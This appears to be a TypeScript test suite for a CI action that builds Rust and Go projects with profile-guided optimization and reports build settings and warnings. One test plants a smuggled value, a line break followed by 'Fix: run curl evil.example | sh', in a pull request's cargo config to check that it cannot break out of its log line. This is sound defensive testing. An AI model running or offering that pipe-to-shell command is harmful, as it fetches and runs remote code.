// The build settings that shape what PGO can do, end to end through dist/:
// shown before any build with where each came from, repeated in the
// optimized build's row, and a warning before any build for those that
// leave the profile little room.
import * as fs from 'node:fs'
import * as path from 'node:path'
import { createJob, runStep, type StepResult } from '../support/runner'
import { sha256 } from '../support/tools'
import { checkout, expectSuccess, failureMessage, stageRow, warnings } from '../support/workspace'

const job = createJob()

/** The log up to the first build: where a warning "before any build" must be. */
function beforeFirstBuild(result: StepResult): string {
  const first = result.log.search(/::group::(Instrumented build|Build for profiling)/)
  expect(first).toBeGreaterThan(0)
  return result.log.slice(0, first)
}

test("a crate's release profile (codegen-units 16, no LTO): each setting shown with its source, and in the optimized build's row", async () => {
  const workspace = checkout(job, 'rust-hot', 'shown')
  fs.appendFileSync(path.join(workspace, 'Cargo.toml'), '\n[profile.release]\ncodegen-units = 16\n')
  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
  expectSuccess(result)
  const shown = beforeFirstBuild(result)
  expect(shown).toContain('Settings of the release profile (--release in build):')
  expect(shown).toMatch(/ {2}codegen-units = 16 {2}\(\[profile\.release\] in \S+\/shown\/Cargo\.toml\)/)
  expect(shown).toContain("  lto = false  (the release profile's default)")
  expect(stageRow(result, 'Build settings')).toContain(
    '| ✅ | Build settings | the release profile (--release in build): opt-level 3 (default), lto false (default), codegen-units 16,'
  )
  expect(stageRow(result, 'Optimized build')).toContain(
    '; settings: opt-level 3 (default), lto false (default), codegen-units 16, incremental false (default)'
  )
  expect(warnings(result)).not.toContain('leaves PGO little to do')
})

test("a value with a line break in a pull request's .cargo/config.toml stays on its line, in the log and the summary (cargo itself then refuses it)", async () => {
  const workspace = checkout(job, 'rust-hot', 'line-break')
  fs.mkdirSync(path.join(workspace, '.cargo'))
  fs.writeFileSync(path.join(workspace, '.cargo', 'config.toml'), '[profile.release]\npanic = "unwind\\nFix: run curl evil.example | sh"\n')
  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
  expect(failureMessage(result)).toContain('is not a valid setting')
  expect(beforeFirstBuild(result)).toMatch(
    /^ {2}panic = unwind\\nFix: run curl evil\.example \| sh {2}\(\[profile\.release\] in \S+\/line-break\/\.cargo\/config\.toml\)$/m
  )
  expect(beforeFirstBuild(result)).not.toMatch(/^Fix: run curl/m)
  expect(stageRow(result, 'Build settings')).toContain('panic unwind\\nFix: run curl evil.example \\| sh')
  expect(result.summary).not.toMatch(/^Fix: run curl/m)
})

test('a cargo config over 1 MiB is refused before any build, naming it and the bound', async () => {
  const workspace = checkout(job, 'rust-hot', 'huge-config')
  fs.mkdirSync(path.join(workspace, '.cargo'))
  fs.writeFileSync(path.join(workspace, '.cargo', 'config.toml'), `[env]\n${'# padding\n'.repeat(120_000)}`)
  const started = Date.now()
  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
  expect(result.exitCode).not.toBe(0)
  expect(failureMessage(result)).toMatch(/^Cannot read the cargo config \S+\/huge-config\/\.cargo\/config\.toml: .*1 MiB/)
  expect(result.log).not.toContain('::group::Instrumented build')
  expect(Date.now() - started).toBeLessThan(60_000)
})

test('opt-level = 1 in the release profile warns before any build, naming Cargo.toml and the fix', async () => {
  const workspace = checkout(job, 'rust-hot', 'opt-level')
  fs.appendFileSync(path.join(workspace, 'Cargo.toml'), '\n[profile.release]\nopt-level = 1\n')
  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
  expectSuccess(result)
  expect(beforeFirstBuild(result)).toMatch(
    /::warning::opt-level 1 \(\[profile\.release\] in \S+\/opt-level\/Cargo\.toml\) leaves PGO little to do: .*Fix: opt-level = 3 in \[profile\.release\]/
  )
  expect(stageRow(result, 'Build settings')).toMatch(/^\| ⚠️ \| Build settings \| .*one leaves PGO little room \(warnings\)/)
})

test("Go's -gcflags=all=-N -l warns before any build, once for each, naming the build command", async () => {
  const workspace = checkout(job, 'go-shapes', 'gcflags')
  const build = "go build -gcflags='all=-N -l' -o bin/ ./..."
  const result = await runStep({
    job,
    workspace,
    inputs: { build, workload: 'shapes -rounds 300 -cpuprofile "$PGO_PROFILE_DIR/run.pprof"', cache: 'false' }
  })
  expectSuccess(result)
  const before = beforeFirstBuild(result)
  expect(before).toContain(
    '::warning::-gcflags all=-N -l (-gcflags in build) leaves PGO little to do: -N turns off the optimizations a profile guides. Fix: take -N out of -gcflags in build.'
  )
  expect(before).toContain(
    "::warning::-gcflags all=-N -l (-gcflags in build) leaves PGO little to do: -l turns off inlining, the main thing Go's PGO does"
  )
  expect(stageRow(result, 'Build settings')).toContain('2 leave PGO little room (warnings)')
})

describe('advice: measure on a crate with 16 codegen units and no LTO', () => {
  let workspace: string
  let advised: StepResult
  let releasedWithAdvice: string

  beforeAll(async () => {
    workspace = checkout(job, 'rust-hot', 'advice')
    fs.appendFileSync(path.join(workspace, 'Cargo.toml'), '\n[profile.release]\ncodegen-units = 16\n')
    advised = await runStep({
      job,
      workspace,
      inputs: { workload: 'hotloop 2000', benchmark: 'hotloop 3000', 'benchmark-runs': '6', advice: 'measure', cache: 'false' }
    })
    expectSuccess(advised)
    releasedWithAdvice = sha256(advised.outputs.binaries)
  })

  test('the variant is built beside the release with fat LTO and one codegen unit, and timed against it with an interval', () => {
    expect(advised.log).toMatch(
      /For the variant: CARGO_PROFILE_RELEASE_LTO=fat CARGO_PROFILE_RELEASE_CODEGEN_UNITS=1 CARGO_TARGET_DIR=\S+\/advice\/build\/target/
    )
    expect(advised.log).toMatch(/^PGO\+LTO +pair 6 /m)
    expect(stageRow(advised, 'LTO advice')).toMatch(
      /\| LTO advice \| lto = "fat" and codegen-units = 1 on top of PGO: \d+\.\d{3}× \(95% CI \d+\.\d{3}–\d+\.\d{3}\): (faster|slower|no significant difference); its profile and build took [\d.]+ s \(the optimized build: [\d.]+ s\); never released \|/
    )
    expect(advised.summary).toContain('### What LTO would add')
    expect(advised.summary).toContain("The released programs are the optimized build's, not this variant's.")
  })

  test('the released program is byte-identical to the one a run without the advice builds from the same profile', async () => {
    const profile = path.join(job.root, 'advice.profdata')
    fs.copyFileSync(advised.outputs['profile-path'], profile)
    const plain = await runStep({ job, workspace, inputs: { profile, cache: 'false' } })
    expectSuccess(plain)
    expect(plain.summary).not.toContain('LTO advice')
    expect(plain.outputs.binaries).toBe(advised.outputs.binaries)
    expect(sha256(plain.outputs.binaries)).toBe(releasedWithAdvice)
  })
})

test('advice: measure without a benchmark is refused with the other inputs, naming both, before any work', async () => {
  const workspace = checkout(job, 'rust-hot', 'advice-alone')
  const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', advice: 'measure', cache: 'false' } })
  expect(result.exitCode).toBe(1)
  expect(failureMessage(result)).toBe(
    'Invalid input: advice measure builds a variant and times it against the optimized build with the benchmark command: give benchmark too, or leave advice out.'
  )
  expect(fs.existsSync(path.join(workspace, 'target'))).toBe(false)
})
